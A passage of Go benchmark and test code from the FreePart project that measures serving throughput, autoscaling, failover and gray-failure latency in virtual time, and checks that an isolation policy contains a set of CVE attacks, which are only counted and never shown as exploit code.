		if r.P50 > r.P95 || r.P95 > r.P99 {
			t.Fatalf("%s: percentiles not monotone: %v %v %v", r.Scenario, r.P50, r.P95, r.P99)
		}
		if r.WarmHits+r.ColdMisses == 0 {
			t.Fatalf("%s: placement memory saw no landings", r.Scenario)
		}
	}

	// The frontier: affinity wins both the cache and the tail.
	if aware.WarmRatio < 2*rr.WarmRatio {
		t.Fatalf("partition-aware warm ratio %.2f not materially above round-robin %.2f",
			aware.WarmRatio, rr.WarmRatio)
	}
	if aware.P99 >= rr.P99 {
		t.Fatalf("partition-aware p99 %v did not beat round-robin %v", aware.P99, rr.P99)
	}

	// The melt arc: the naive range assignment melts, the drill recovers,
	// and the drill is control-plane only.
	if melt.P99 <= aware.P99 {
		t.Fatalf("hot-range melt p99 %v should dwarf partition-aware %v", melt.P99, aware.P99)
	}
	if rebal.P99 >= melt.P99 {
		t.Fatalf("rebalance p99 %v did not improve on melt %v", rebal.P99, melt.P99)
	}
	if rebal.Splits != 1 {
		t.Fatalf("rebalance row recorded %d splits, want 1", rebal.Splits)
	}
	if rebal.Moved == 0 {
		t.Fatal("the drill migrated no live sessions")
	}
	if rebal.SplitKey == 0 {
		t.Fatal("the drill never computed a load-median split key")
	}
	if !melt.ResultsMatchBaseline || !rebal.ResultsMatchBaseline {
		t.Fatal("drill changed served results")
	}
	if melt.Splits != 0 || melt.Moved != 0 {
		t.Fatalf("no-drill melt row shows drill activity: %+v", melt)
	}
}

// TestPartitionDeterminism replays the whole experiment and requires
// byte-equal rows: placement, drill, and accounting are pure functions of
// the configuration.
func TestPartitionDeterminism(t *testing.T) {
	a, err := MeasurePartition(4, 1000, 600, 1.2)
	if err != nil {
		t.Fatal(err)
	}
	b, err := MeasurePartition(4, 1000, 600, 1.2)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(a, b) {
		t.Fatalf("experiment diverged across replays:\n%+v\n%+v", a, b)
	}
}

// TestPartitionRejectsBadConfig covers the argument guards.
func TestPartitionRejectsBadConfig(t *testing.T) {
	if _, err := MeasurePartition(3, 100, 100, 1.2); err == nil {
		t.Fatal("odd shard count must be rejected")
	}
	if _, err := MeasurePartition(4, 0, 100, 1.2); err == nil {
		t.Fatal("zero users must be rejected")
	}
	if _, err := MeasurePartition(4, 100, 0, 1.2); err == nil {
		t.Fatal("zero visits must be rejected")
	}
}

// TestWritePartitionJSON round-trips rows through the artifact file.
func TestWritePartitionJSON(t *testing.T) {
	rows, err := MeasurePartition(4, 500, 300, 1.2)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "BENCH_partition.json")
	if err := WritePartitionJSON(path, rows); err != nil {
		t.Fatal(err)
	}
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var back []PartitionResult
	if err := json.Unmarshal(raw, &back); err != nil {
		t.Fatal(err)
	}
	if len(back) != len(rows) {
		t.Fatalf("round-trip lost rows: %d vs %d", len(back), len(rows))
	}
	for i := range rows {
		if back[i].Scenario != rows[i].Scenario || back[i].P99 != rows[i].P99 ||
			back[i].WarmHits != rows[i].WarmHits {
			t.Fatalf("row %d diverged through JSON: %+v vs %+v", i, back[i], rows[i])
		}
	}
}
