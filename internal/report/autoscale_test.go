package report

import (
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"testing"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/sched"
	"freepart.dev/freepart/internal/vclock"
)

// rampFingerprint is everything the serving layer's numbers hang off.
type rampFingerprint struct {
	results  []apps.TrackResult
	p50, p99 vclock.Duration
	samples  int
	crit     vclock.Duration
	shards   int
}

// serveRampFixed runs the ramp on a fixed pool, optionally with an inert
// controller attached (pinned pool, every signal disabled, round-robin
// placement — the scheduler present but switched off).
func serveRampFixed(t *testing.T, streams []apps.TrackStream, inertController bool) rampFingerprint {
	t.Helper()
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	ex, err := core.NewExecutor(3, core.ProtectedShards(reg, cat, core.Default()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(ex.Close)
	srv := apps.ProvisionTracking(ex)
	var ticker apps.Ticker
	if inertController {
		ctl := sched.New(ex, sched.Policy{MinShards: 3, MaxShards: 3}, sched.RoundRobin{})
		ticker = ctl
	}
	results := srv.ServeRamp(streams, ticker, nil)
	lat := ex.Latencies()
	return rampFingerprint{
		results: results,
		p50:     lat.P50(), p99: lat.P99(),
		samples: lat.Len(),
		crit:    ex.CriticalPath(),
		shards:  ex.Shards(),
	}
}

// TestServingZeroCostWhenSchedulerOff is the regression guard for the
// control plane's core promise: a scheduler that is attached but disabled
// (pinned pool, no signals, round-robin placement, no batching) must leave
// every serving number — results, latency distribution, critical path —
// bit-identical to a run with no scheduler at all.
func TestServingZeroCostWhenSchedulerOff(t *testing.T) {
	streams := apps.GenRampStreams(13, 4, 5, 32)
	plain := serveRampFixed(t, streams, false)
	inert := serveRampFixed(t, streams, true)
	if !reflect.DeepEqual(plain, inert) {
		t.Fatalf("disabled scheduler changed serving numbers:\nplain: %+v\ninert: %+v", plain, inert)
	}
}

// TestAutoscaleMeetsFixedPoolTail pins the headline autoscaling claim the
// BENCH_autoscale.json artifact ships: on the ramp, the autoscaled pool
// holds the fixed n=max pool's p99 within 10% while spending fewer
// shard-seconds, and both scale directions actually fire.
func TestAutoscaleMeetsFixedPoolTail(t *testing.T) {
	if testing.Short() {
		t.Skip("full ramp drill")
	}
	results, err := MeasureAutoscale(2, 8, 4, 18, 224)
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != 4 {
		t.Fatalf("got %d rows, want 4", len(results))
	}
	for _, r := range results {
		if r.Served != r.Streams {
			t.Fatalf("%s: served %d/%d", r.Scenario, r.Served, r.Streams)
		}
	}
	auto := results[2]
	if auto.P99VsMax > 1.10 {
		t.Fatalf("autoscaled p99 is %.2fx fixed max (%v vs %v), want <= 1.10x",
			auto.P99VsMax, auto.P99, results[1].P99)
	}
	if auto.ShardSecondsVsMax >= 1.0 {
		t.Fatalf("autoscaled shard-seconds %.2fx fixed max, want < 1x", auto.ShardSecondsVsMax)
	}
	if auto.ScaleUps == 0 || auto.ScaleDowns == 0 {
		t.Fatalf("drill did not scale both ways: ups=%d downs=%d", auto.ScaleUps, auto.ScaleDowns)
	}
	if auto.ControlEvents == 0 {
		t.Fatal("controller recorded no events")
	}
}

// TestWriteAutoscaleJSON checks the benchmark artifact round-trips.
func TestWriteAutoscaleJSON(t *testing.T) {
	results, err := MeasureAutoscale(1, 2, 2, 2, 16)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "BENCH_autoscale.json")
	if err := WriteAutoscaleJSON(path, results); err != nil {
		t.Fatal(err)
	}
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var back []AutoscaleResult
	if err := json.Unmarshal(raw, &back); err != nil {
		t.Fatalf("artifact is not valid JSON: %v", err)
	}
	if !reflect.DeepEqual(back, results) {
		t.Fatalf("artifact did not round-trip:\n%+v\nvs\n%+v", back, results)
	}
}
