package report_test

import (
	"fmt"
	"strings"
	"testing"

	"freepart.dev/freepart/internal/report"
)

func TestTable1(t *testing.T) {
	out, err := report.Table1()
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "FreePart") || !strings.Contains(out, "Memory-based") {
		t.Fatalf("table 1 missing rows:\n%s", out)
	}
	// The FreePart row prevents all three attacks.
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, "FreePart") && strings.Contains(line, "FAILED") {
			t.Fatalf("FreePart row shows a failed defense:\n%s", line)
		}
	}
}

func TestTable2(t *testing.T) {
	out, err := report.Table2()
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "Data Processing") || !strings.Contains(out, "Visualizing") {
		t.Fatalf("table 2 incomplete:\n%s", out)
	}
}

func TestTable3Through5(t *testing.T) {
	for name, fn := range map[string]func() (string, error){
		"t3": report.Table3, "t4": report.Table4, "t5": report.Table5,
	} {
		out, err := fn()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if len(out) < 100 {
			t.Fatalf("%s suspiciously short:\n%s", name, out)
		}
	}
}

func TestTable5Has18CVEs(t *testing.T) {
	out, err := report.Table5()
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Count(out, "CVE-"); got < 18 {
		t.Fatalf("table 5 lists %d CVEs, want >= 18:\n%s", got, out)
	}
}

func TestTable6(t *testing.T) {
	out, err := report.Table6()
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"OMRChecker", "SiamMask", "CapsNet"} {
		if !strings.Contains(out, name) {
			t.Fatalf("table 6 missing %s:\n%s", name, out)
		}
	}
	if got := len(strings.Split(strings.TrimSpace(out), "\n")); got < 25 {
		t.Fatalf("table 6 rows = %d", got)
	}
}

func TestTable7(t *testing.T) {
	out, err := report.Table7()
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "Data Loading") || !strings.Contains(out, "openat") {
		t.Fatalf("table 7 incomplete:\n%s", out)
	}
}

func TestTables8Through11(t *testing.T) {
	for name, fn := range map[string]func() (string, error){
		"t8": report.Table8, "t10": report.Table10, "t11": report.Table11,
	} {
		out, err := fn()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if len(out) < 80 {
			t.Fatalf("%s suspiciously short:\n%s", name, out)
		}
	}
	out, err := report.Table9(1)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "Individual APIs") || !strings.Contains(out, "Unprotected") {
		t.Fatalf("table 9 incomplete:\n%s", out)
	}
}

func TestTable12LazyFraction(t *testing.T) {
	out, err := report.Table12()
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "Total") || !strings.Contains(out, "%") {
		t.Fatalf("table 12 incomplete:\n%s", out)
	}
}

func TestFig4SmallSweep(t *testing.T) {
	out, err := report.Fig4(4, 6, 2, 1)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "4") || !strings.Contains(out, "6") {
		t.Fatalf("fig 4 incomplete:\n%s", out)
	}
}

func TestFig6And7(t *testing.T) {
	out, err := report.Fig6()
	if err != nil || !strings.Contains(out, "56/56") {
		t.Fatalf("fig 6: %v\n%s", err, out)
	}
	out, err = report.Fig7()
	if err != nil || !strings.Contains(out, "DL/") || !strings.Contains(out, "DP/") {
		t.Fatalf("fig 7: %v\n%s", err, out)
	}
}

func TestFig13SmallScale(t *testing.T) {
	out, err := report.Fig13(1)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "average overhead") || !strings.Contains(out, "without lazy data copy") {
		t.Fatalf("fig 13 incomplete:\n%s", out)
	}
}

func TestMeasureOverheadsLDCBeatsNoLDC(t *testing.T) {
	with, err := report.MeasureOverheads(1, true)
	if err != nil {
		t.Fatal(err)
	}
	without, err := report.MeasureOverheads(1, false)
	if err != nil {
		t.Fatal(err)
	}
	avg := func(rows []report.OverheadRow) float64 {
		s := 0.0
		for _, r := range rows {
			s += r.Overhead
		}
		return s / float64(len(rows))
	}
	if avg(with) >= avg(without) {
		t.Fatalf("LDC avg overhead (%.1f%%) should be below no-LDC (%.1f%%)", avg(with), avg(without))
	}
}

func TestSecurityMatrixAllContained(t *testing.T) {
	out, err := report.SecurityMatrix()
	if err != nil {
		t.Fatal(err)
	}
	// Every row must show host alive, data safe, leak blocked.
	for _, line := range strings.Split(out, "\n") {
		if !strings.HasPrefix(line, "CVE-") {
			continue
		}
		if strings.Contains(line, "false") {
			t.Errorf("attack not contained:\n%s", line)
		}
	}
	if got := strings.Count(out, "CVE-"); got < 18 {
		t.Fatalf("security matrix covers %d attack instances, want >= 18", got)
	}
}

func TestFig12SyscallDerivation(t *testing.T) {
	out, err := report.Fig12()
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"cv.CascadeClassifier", "cv.VideoCapture.read", "union", "ioctl"} {
		if !strings.Contains(out, want) {
			t.Fatalf("fig 12 missing %q:\n%s", want, out)
		}
	}
}

func TestAblationShape(t *testing.T) {
	out, err := report.Ablation(1)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "full FreePart") || !strings.Contains(out, "without lazy data copy") {
		t.Fatalf("ablation incomplete:\n%s", out)
	}
	// Parse the two overheads: no-LDC must exceed full.
	full, noLDC := -1.0, -1.0
	for _, line := range strings.Split(out, "\n") {
		var v float64
		if strings.HasPrefix(line, "full FreePart") {
			_, _ = fmt.Sscanf(strings.Fields(line)[2], "%f%%", &v)
			full = v
		}
		if strings.HasPrefix(line, "without lazy data copy") {
			_, _ = fmt.Sscanf(strings.Fields(line)[4], "%f%%", &v)
			noLDC = v
		}
	}
	if full < 0 || noLDC < 0 || noLDC <= full {
		t.Fatalf("ablation overheads full=%v noLDC=%v:\n%s", full, noLDC, out)
	}
}
