package report

import (
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"testing"

	"freepart.dev/freepart/internal/attack"
)

// TestIsolationFrontier replays the 18-CVE corpus under every preset at a
// reduced serving size and pins the frontier's shape: the paper policy
// blocks everything, the tiered policy gives up only the visualizing DoS,
// the all-domain policy stops only memory-safety classes, and each step
// down in coverage buys strictly lower serving overhead.
func TestIsolationFrontier(t *testing.T) {
	rows, err := MeasureIsolation(2, 8)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 4 {
		t.Fatalf("%d rows, want one per preset", len(rows))
	}
	byName := map[string]IsolationResult{}
	for _, r := range rows {
		byName[r.Policy] = r
		if r.Total != len(attack.EvalCVEs()) {
			t.Errorf("%s replayed %d CVEs, want %d", r.Policy, r.Total, len(attack.EvalCVEs()))
		}
		if len(r.CVEs) != r.Total {
			t.Errorf("%s has %d CVE outcomes, want %d", r.Policy, len(r.CVEs), r.Total)
		}
	}

	wantBlocked := map[string]int{"paper": 18, "tiered": 17, "erim": 5, "none": 0}
	for name, want := range wantBlocked {
		r, ok := byName[name]
		if !ok {
			t.Fatalf("preset %q missing from results", name)
		}
		if r.Blocked != want {
			t.Errorf("%s blocked %d/18, want %d", name, r.Blocked, want)
		}
	}

	// The frontier must be strictly ordered: more isolation, more overhead.
	none, erim, tiered, paper := byName["none"], byName["erim"], byName["tiered"], byName["paper"]
	if none.OverheadPct != 0 {
		t.Errorf("none overhead = %.2f%%, want 0 (it is the baseline)", none.OverheadPct)
	}
	if !(none.OverheadPct < erim.OverheadPct && erim.OverheadPct < tiered.OverheadPct && tiered.OverheadPct < paper.OverheadPct) {
		t.Errorf("overhead not strictly ordered: none=%.2f erim=%.2f tiered=%.2f paper=%.2f",
			none.OverheadPct, erim.OverheadPct, tiered.OverheadPct, paper.OverheadPct)
	}

	// Mechanism accounting: only policies with a domain tier pay switches.
	if paper.DomainSwitches != 0 || none.DomainSwitches != 0 {
		t.Errorf("paper/none charged domain switches: %d / %d", paper.DomainSwitches, none.DomainSwitches)
	}
	if erim.DomainSwitches == 0 || tiered.DomainSwitches == 0 {
		t.Errorf("erim/tiered charged no domain switches: %d / %d", erim.DomainSwitches, tiered.DomainSwitches)
	}

	// The one CVE tiered gives up is the visualizing DoS (domain tier
	// shares the host's fate, so a crash in cv.imshow still kills serving).
	for _, c := range tiered.CVEs {
		if c.Blocked {
			continue
		}
		if c.API != "cv.imshow" || c.Class != attack.ClassDoS.String() {
			t.Errorf("tiered leaks %s (%s %s), want only the cv.imshow DoS", c.CVE, c.API, c.Class)
		}
	}
}

// TestMeasureIsolationDeterministic pins replay stability: two measurements
// at the same size must be identical, including virtual-clock readings.
func TestMeasureIsolationDeterministic(t *testing.T) {
	a, err := MeasureIsolation(2, 6)
	if err != nil {
		t.Fatal(err)
	}
	b, err := MeasureIsolation(2, 6)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(a, b) {
		t.Fatalf("isolation measurement not deterministic:\n%+v\nvs\n%+v", a, b)
	}
}

// TestWriteIsolationJSON round-trips the benchmark artifact.
func TestWriteIsolationJSON(t *testing.T) {
	rows := []IsolationResult{{Policy: "paper", Blocked: 18, Total: 18, OverheadPct: 29.4}}
	path := filepath.Join(t.TempDir(), "bench.json")
	if err := WriteIsolationJSON(path, rows); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var got []IsolationResult
	if err := json.Unmarshal(data, &got); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, rows) {
		t.Fatalf("round trip = %+v, want %+v", got, rows)
	}
	if data[len(data)-1] != '\n' {
		t.Fatal("artifact should end with a newline")
	}
}
