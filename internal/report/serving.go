package report

import (
	"encoding/json"
	"fmt"
	"os"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/vclock"
)

// ServingResult is one row of the serving-layer scaling experiment: a
// request stream served by an executor with a given shard count, measured
// entirely in virtual time so the numbers are machine-independent.
type ServingResult struct {
	// Shards is the executor's shard (worker) count.
	Shards int `json:"shards"`
	// Requests is the stream length.
	Requests int `json:"requests"`
	// Served is how many requests succeeded.
	Served int `json:"served"`
	// RPS is virtual-time throughput: requests per virtual second, i.e.
	// Requests divided by the critical-path time across shards.
	RPS float64 `json:"rps"`
	// Speedup is RPS relative to the 1-shard row.
	Speedup float64 `json:"speedup"`
	// P50/P95/P99 are per-request virtual latencies in nanoseconds.
	P50 vclock.Duration `json:"p50_ns"`
	P95 vclock.Duration `json:"p95_ns"`
	P99 vclock.Duration `json:"p99_ns"`
	// CriticalPath is the max-merged virtual time across shard clocks.
	CriticalPath vclock.Duration `json:"critical_path_ns"`
	// TotalWork is the summed virtual time across shard clocks; divided by
	// CriticalPath it is the run's effective parallelism.
	TotalWork vclock.Duration `json:"total_work_ns"`
}

// MeasureServing runs the detection service over the same request stream at
// each shard count and reports virtual throughput and latency percentiles.
// Every run is deterministic: seeded inputs, round-robin placement, and
// per-shard virtual clocks joined by max-merge.
func MeasureServing(shardCounts []int, requests int) ([]ServingResult, error) {
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	reqs := apps.GenDetectionRequests(7, requests)
	// Closed-loop capacity measurement: strip the open-loop arrival stamps so
	// each shard crunches its queue back to back. With stamps kept, throughput
	// is bounded by the arrival rate and the scaling signal disappears (every
	// shard count serves the stream in roughly the arrival span).
	for i := range reqs {
		reqs[i].Arrival = 0
	}

	out := make([]ServingResult, 0, len(shardCounts))
	var baseRPS float64
	for _, n := range shardCounts {
		ex, err := core.NewExecutor(n, core.ProtectedShards(reg, cat, core.Default()))
		if err != nil {
			return nil, err
		}
		srv, err := apps.ProvisionDetection(ex)
		if err != nil {
			ex.Close()
			return nil, err
		}
		// Measure serving steady state: rewind shard clocks so the one-time
		// provisioning cost (runtime boot, model load — identical on every
		// shard) does not dilute the scaling signal.
		for i := 0; i < ex.Shards(); i++ {
			ex.Shard(i).K.Clock.Reset()
		}
		results := srv.Serve(reqs)
		crit := ex.CriticalPath()
		r := ServingResult{
			Shards:       n,
			Requests:     len(reqs),
			Served:       apps.Served(results),
			P50:          ex.Latencies().P50(),
			P95:          ex.Latencies().P95(),
			P99:          ex.Latencies().P99(),
			CriticalPath: crit,
			TotalWork:    ex.TotalWork(),
		}
		if crit > 0 {
			r.RPS = float64(len(reqs)) / crit.Seconds()
		}
		if baseRPS == 0 {
			baseRPS = r.RPS
		}
		if baseRPS > 0 {
			r.Speedup = r.RPS / baseRPS
		}
		ex.Close()
		out = append(out, r)
	}
	return out, nil
}

// TableServing renders the serving scaling experiment and optionally writes
// the rows as JSON to jsonPath (the BENCH_serving.json artifact).
func TableServing(requests int, jsonPath string) (string, error) {
	results, err := MeasureServing([]int{1, 2, 4, 8}, requests)
	if err != nil {
		return "", err
	}
	t := &Table{
		Title:  "Serving: session-sharded executor scaling (detection pipeline, virtual time)",
		Header: []string{"Shards", "Requests", "Served", "RPS", "Speedup", "p50", "p95", "p99", "Critical path", "Parallelism"},
	}
	for _, r := range results {
		par := 0.0
		if r.CriticalPath > 0 {
			par = float64(r.TotalWork) / float64(r.CriticalPath)
		}
		t.Add(d(r.Shards), d(r.Requests), d(r.Served), f1(r.RPS), f2(r.Speedup),
			r.P50.String(), r.P95.String(), r.P99.String(), r.CriticalPath.String(), f2(par))
	}
	t.Notes = append(t.Notes,
		"RPS is requests per virtual second: requests / max-merged shard clock (critical path).",
		"Parallelism is total shard work / critical path; ideal equals the shard count.")
	if jsonPath != "" {
		if err := WriteServingJSON(jsonPath, results); err != nil {
			return "", err
		}
		t.Notes = append(t.Notes, fmt.Sprintf("rows written to %s", jsonPath))
	}
	return t.String(), nil
}

// WriteServingJSON writes serving results as indented JSON.
func WriteServingJSON(path string, results []ServingResult) error {
	b, err := json.MarshalIndent(results, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(b, '\n'), 0o644)
}
