package report

import (
	"encoding/json"
	"fmt"
	"os"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/vclock"
)

// FailoverResult is one row of the shard-failover experiment: the detection
// service answering the same open-loop request stream, once undisturbed and
// once with one shard killed mid-stream. The delta between the rows is the
// price of a failover — drained shard, migrated sessions, and the failover
// latency landing in the tail percentiles.
type FailoverResult struct {
	// Scenario is "baseline" or "one shard killed".
	Scenario string `json:"scenario"`
	// Shards is the executor's shard count.
	Shards int `json:"shards"`
	// Requests is the stream length; Served is how many succeeded.
	Requests int `json:"requests"`
	Served   int `json:"served"`
	// RPS is requests per virtual second over the critical path.
	RPS float64 `json:"rps"`
	// P50/P95/P99 are per-request virtual latencies (arrival to completion,
	// queueing included) in nanoseconds.
	P50 vclock.Duration `json:"p50_ns"`
	P95 vclock.Duration `json:"p95_ns"`
	P99 vclock.Duration `json:"p99_ns"`
	// AddedP99 is this row's p99 minus the baseline row's p99.
	AddedP99 vclock.Duration `json:"added_p99_ns"`
	// CriticalPath is the max-merged virtual time across shard clocks.
	CriticalPath vclock.Duration `json:"critical_path_ns"`
	// ShardDrains/Migrations/FailedMigrations count failover activity.
	ShardDrains      uint64 `json:"shard_drains"`
	Migrations       uint64 `json:"migrations"`
	FailedMigrations uint64 `json:"failed_migrations"`
}

// MeasureFailover serves the same detection request stream twice over a
// shards-wide executor: a fault-free baseline, then a run where killShard is
// scheduled to die halfway through its baseline serving window. Sessions
// pinned to the dead shard migrate to a replacement through the portable
// checkpoint store; both runs are fully deterministic, so the row delta is
// exactly the cost of losing one shard.
func MeasureFailover(shards, requests, killShard int) ([]FailoverResult, error) {
	if killShard < 0 || killShard >= shards {
		return nil, fmt.Errorf("report: kill shard %d out of range for %d shards", killShard, shards)
	}
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	reqs := apps.GenDetectionRequests(7, requests)

	run := func(kill bool, killAt vclock.Duration) (FailoverResult, vclock.Duration, error) {
		ex, err := core.NewExecutor(shards, core.ProtectedShards(reg, cat, core.Default()))
		if err != nil {
			return FailoverResult{}, 0, err
		}
		defer ex.Close()
		srv, err := apps.ProvisionDetection(ex)
		if err != nil {
			return FailoverResult{}, 0, err
		}
		// Steady state: provisioning cost (identical per shard) is not part
		// of the serving window.
		for i := 0; i < ex.Shards(); i++ {
			ex.Shard(i).K.Clock.Reset()
		}
		ex.SetHealthPolicy(core.HealthPolicy{FailThreshold: 1})
		if kill {
			ex.ScheduleKill(killShard, killAt)
		}
		results := srv.Serve(reqs)
		crit := ex.CriticalPath()
		m := ex.Metrics().Snapshot()
		r := FailoverResult{
			Scenario:         "baseline",
			Shards:           shards,
			Requests:         len(reqs),
			Served:           apps.Served(results),
			P50:              ex.Latencies().P50(),
			P95:              ex.Latencies().P95(),
			P99:              ex.Latencies().P99(),
			CriticalPath:     crit,
			ShardDrains:      m.ShardDrains,
			Migrations:       m.Migrations,
			FailedMigrations: m.FailedMigrations,
		}
		if kill {
			r.Scenario = "one shard killed"
		}
		if crit > 0 {
			r.RPS = float64(len(reqs)) / crit.Seconds()
		}
		return r, ex.Shard(killShard).K.Clock.Now(), nil
	}

	base, window, err := run(false, 0)
	if err != nil {
		return nil, err
	}
	killed, _, err := run(true, window/2)
	if err != nil {
		return nil, err
	}
	killed.AddedP99 = killed.P99 - base.P99
	return []FailoverResult{base, killed}, nil
}

// TableFailover renders the shard-failover experiment and optionally writes
// the rows as JSON to jsonPath (the BENCH_failover.json artifact).
func TableFailover(requests int, jsonPath string) (string, error) {
	results, err := MeasureFailover(4, requests, 2)
	if err != nil {
		return "", err
	}
	t := &Table{
		Title:  "Failover: detection serving with one shard killed mid-stream (4 shards, virtual time)",
		Header: []string{"Scenario", "Served", "RPS", "p50", "p95", "p99", "Added p99", "Critical path", "Drains", "Migrations"},
	}
	for _, r := range results {
		t.Add(r.Scenario, fmt.Sprintf("%d/%d", r.Served, r.Requests), f1(r.RPS),
			r.P50.String(), r.P95.String(), r.P99.String(), r.AddedP99.String(),
			r.CriticalPath.String(), d(int(r.ShardDrains)), d(int(r.Migrations)))
	}
	t.Notes = append(t.Notes,
		"The kill fires halfway through the victim shard's baseline serving window.",
		"Sessions on the dead shard migrate to a replacement via the portable checkpoint store; every request is still served.",
		"Added p99 is the failover's tail-latency cost: re-run invocations keep their original arrival stamp.")
	if jsonPath != "" {
		if err := WriteFailoverJSON(jsonPath, results); err != nil {
			return "", err
		}
		t.Notes = append(t.Notes, fmt.Sprintf("rows written to %s", jsonPath))
	}
	return t.String(), nil
}

// WriteFailoverJSON writes failover results as indented JSON.
func WriteFailoverJSON(path string, results []FailoverResult) error {
	b, err := json.MarshalIndent(results, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(b, '\n'), 0o644)
}
