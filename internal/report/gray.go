package report

import (
	"encoding/json"
	"fmt"
	"os"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/chaos"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/vclock"
)

// GrayResult is one row of the gray-failure experiment: the detection
// service answering the same open-loop request stream with one shard alive
// but ~10x slow, under increasing levels of mitigation. The frontier the
// rows trace is the campaign's claim: unmitigated p99 blows up on queue
// buildup behind the slow shard, suspicion-drain alone recovers after the
// detection window, and hedging on top holds p99 near the fault-free
// baseline for a bounded extra-work fraction.
type GrayResult struct {
	// Scenario is "fault-free", "unmitigated", "drain only", or
	// "hedge + drain".
	Scenario string `json:"scenario"`
	// Shards is the executor's shard count; SlowShard the degraded slot and
	// Factor its service-time multiplier (0 on the fault-free row).
	Shards    int     `json:"shards"`
	SlowShard int     `json:"slow_shard"`
	Factor    float64 `json:"factor"`
	// Requests is the stream length; Served is how many succeeded.
	Requests int `json:"requests"`
	Served   int `json:"served"`
	// RPS is requests per virtual second over the critical path.
	RPS float64 `json:"rps"`
	// P50/P95/P99 are per-request virtual latencies (arrival to completion,
	// queueing included) in nanoseconds.
	P50 vclock.Duration `json:"p50_ns"`
	P95 vclock.Duration `json:"p95_ns"`
	P99 vclock.Duration `json:"p99_ns"`
	// AddedP99 is this row's p99 minus the fault-free row's p99 — the tail
	// cost the mitigation failed to absorb.
	AddedP99 vclock.Duration `json:"added_p99_ns"`
	// CriticalPath is the max-merged virtual time across shard clocks.
	CriticalPath vclock.Duration `json:"critical_path_ns"`
	// GrayDrains counts latency-triggered drains; ShardDrains every drain;
	// Migrations the sessions moved off drained shards.
	GrayDrains  uint64 `json:"gray_drains"`
	ShardDrains uint64 `json:"shard_drains"`
	Migrations  uint64 `json:"migrations"`
	// Hedges/HedgeWins/HedgeCancels count secondary launches and race
	// outcomes; HedgeWork is the virtual time secondaries consumed.
	Hedges       uint64          `json:"hedges"`
	HedgeWins    uint64          `json:"hedge_wins"`
	HedgeCancels uint64          `json:"hedge_cancels"`
	HedgeWork    vclock.Duration `json:"hedge_work_ns"`
	// ExtraWorkFrac is HedgeWork over the stream's fault-free service work
	// (requests x calibrated service time) — the fleet-relative price of
	// hedging.
	ExtraWorkFrac float64 `json:"extra_work_frac"`
	// HedgeDelay is the quantile-derived launch delay in force (0 when
	// hedging is off).
	HedgeDelay vclock.Duration `json:"hedge_delay_ns"`
}

// grayCalibration is what the fault-free run teaches the mitigated runs:
// the per-invocation service-time reference the suspicion scorer compares
// against, and the p95 latency the hedge delay derives from.
type grayCalibration struct {
	baseline vclock.Duration
	hedge    vclock.Duration
}

// MeasureGray serves the same detection request stream four times over a
// shards-wide executor with slot slowShard degraded to factor-times
// service time (alive the whole run: every call completes, no crash
// counter ever trips): fault-free, unmitigated, suspicion-drain only, and
// hedging plus drain. The fault-free run calibrates the scorer's baseline
// and the hedge delay, so mitigation needs no oracle knowledge of which
// shard is slow. Serving is strictly sequential (ServeSeq), making every
// run — hedge races and drain decisions included — a pure function of the
// request list.
func MeasureGray(shards, requests, slowShard int, factor float64) ([]GrayResult, error) {
	if slowShard < 0 || slowShard >= shards {
		return nil, fmt.Errorf("report: slow shard %d out of range for %d shards", slowShard, shards)
	}
	if factor <= 1 {
		return nil, fmt.Errorf("report: slowdown factor %.2f must exceed 1", factor)
	}
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	reqs := apps.GenDetectionRequests(7, requests)
	const seed = 11

	run := func(scenario string, degrade bool, gray core.GrayPolicy, hedge core.HedgePolicy) (GrayResult, *core.Executor, error) {
		planOf := func(id, gen int) chaos.Plan {
